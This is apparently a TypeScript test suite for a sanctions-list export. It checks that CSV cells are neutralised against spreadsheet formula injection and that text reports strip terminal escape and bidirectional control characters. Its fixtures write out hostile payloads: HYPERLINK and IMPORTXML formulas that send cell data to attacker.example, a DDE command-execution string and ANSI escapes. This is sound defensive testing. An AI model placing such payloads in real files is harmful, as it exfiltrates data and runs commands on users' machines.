import { parse } from 'csv-parse/sync';
import { renderTextReport } from '../../shared/render/text-report';
import { renderDigest } from '../../shared/render/digest';
import { ExportDocument } from '../../shared/query/schemas';
import { CsvRecords } from '../support/fixtures';
import { HistoryFixture } from '../support/history';

/**
 * Nothing we write can attack its reader. The list is outside input: real entries of the excerpt are given names
 * and aliases a spreadsheet would evaluate, or a terminal would obey, committed through the real pipeline, then
 * exported as CSV through the read API (which `export --format csv` prints too) and read back the way a
 * spreadsheet reads a CSV file.
 */
const HOSTILE: Record<string, { name_en: string; alias_en?: string }> = {
  '029-000729': { name_en: '=HYPERLINK("http://attacker.example/?"&A1,"x")', alias_en: 'Vladimir Mikheichik; @SUM(1+1)' },
  '028-000258': { name_en: '+1-555-0100' },
  '028-000259': { name_en: '-2+3+cmd|\' /C calc\'!A0' },
  '028-000260': { name_en: '@IMPORTXML(CONCAT("http://attacker.example/",A1),"//a")' },
  '028-000261': { name_en: '\t=1+1' },
  '028-000262': { name_en: '\r=1+1' },
  '028-000263': { name_en: "'=kept as typed" },
  '028-000264': { name_en: 'Red \u001b[31mALERT\u001b[0m \u009b2J\u202eevil\u202c Co.' },
};

let fx: HistoryFixture;
let version: number;
beforeAll(async () => {
  fx = await HistoryFixture.afterDemo();
  const hostile = CsvRecords.excerpt().map((row, at) => {
    const change = HOSTILE[row[at('番号')]!];
    if (!change) return null;
    row[at('氏名（英語）')] = change.name_en;
    if (change.alias_en) row[at('別名・別称（英語）')] = change.alias_en;
    return row;
  });
  const report = await fx.check(hostile);
  expect(report.summary?.amended).toBe(Object.keys(HOSTILE).length);
  version = report.committedVersion!;
}, 120_000);
afterAll(() => fx.close());

/** What a spreadsheet evaluates: a cell beginning with one of these (OWASP's list). */
const FORMULA = /^[=+\-@\t\r]/;

describe('CSV export', () => {
  let header: string[];
  let rows: string[][];
  beforeAll(async () => {
    const response = await fx.get('/v1/export?format=csv');
    expect(response.status).toBe(200);
    // As a spreadsheet opens it: RFC 4180 fields, the BOM dropped, nothing trimmed.
    const records = parse(response.body.toString('utf8'), { bom: true, relax_column_count: false }) as string[][];
    header = records[0]!;
    rows = records.slice(1);
  });
  const cellOf = (key: string, column: string) => rows.find((r) => r[0] === key)![header.indexOf(column)]!;

  it('has no cell a spreadsheet would evaluate, split on commas or (as some locales do) on semicolons', () => {
    expect(rows).toHaveLength(170);
    const cells = rows.flat();
    expect(cells.filter((c) => FORMULA.test(c))).toEqual([]);
    expect(cells.flatMap((c) => c.split(';').map((part) => part.trimStart())).filter((c) => FORMULA.test(c))).toEqual([]);
  });

  it('keeps every value recoverable, as stored: drop one leading apostrophe', async () => {
    const stored = ExportDocument.parse(await fx.getJson('/v1/export')).entries;
    const recover = (cell: string) => cell.split('; ').map((item) => item.replace(/^'/, '')).join('; ');
    for (const entry of stored) {
      expect(recover(cellOf(entry.key, 'name_en'))).toBe(entry.name.en ?? '');
      expect(recover(cellOf(entry.key, 'aliases_en'))).toBe(entry.aliases.en.join('; '));
    }
    // The parser trims the tab and CR the list began with; the CSV rule covers them all the same (unit test).
    expect(stored.find((e) => e.key === '028-000261')!.name.en).toBe('=1+1');
    expect(cellOf('029-000729', 'name_en')).toBe('\'=HYPERLINK("http://attacker.example/?"&A1,"x")');
    expect(cellOf('029-000729', 'aliases_en')).toBe("Vladimir Mikheichik; '@SUM(1+1)");
    // An apostrophe the list itself begins with is escaped too, or recovering would eat it.
    expect(cellOf('028-000263', 'name_en')).toBe("''=kept as typed");
    // Ordinary values are untouched.
    expect(cellOf('029-000729', 'name_ja')).toBe('ウラジーミル・ミヘイチク');
  });

  it('writes an address whose detail ends in a comma without a doubled comma', () => {
    expect(cellOf('002-000002', 'addresses_en')).toBe('Kabul, Afghanistan');
    expect(rows.flat().filter((c) => c.includes(',,'))).toEqual([]);
  });
});

describe('text renderings', () => {
  it('strip ESC, C1 controls and bidirectional overrides from list text, in the report and the digest', async () => {
    const { changes } = await fx.store.loadNotification(version);
    const changeSet = { schemaVersion: 1 as const, summary: { designated: 0, delisted: 0, amended: changes.length, relisted: 0 }, changes, notices: [] };
    const notification = await fx.store.loadNotification(version);
    const digest = renderDigest(notification);
    for (const text of [renderTextReport(changeSet, 'report'), digest.email, digest.sms, digest.subject, digest.default]) {
      expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    }
    expect(renderTextReport(changeSet, 'report')).toContain('Red [31mALERT[0m 2Jevil Co.');
  });
});
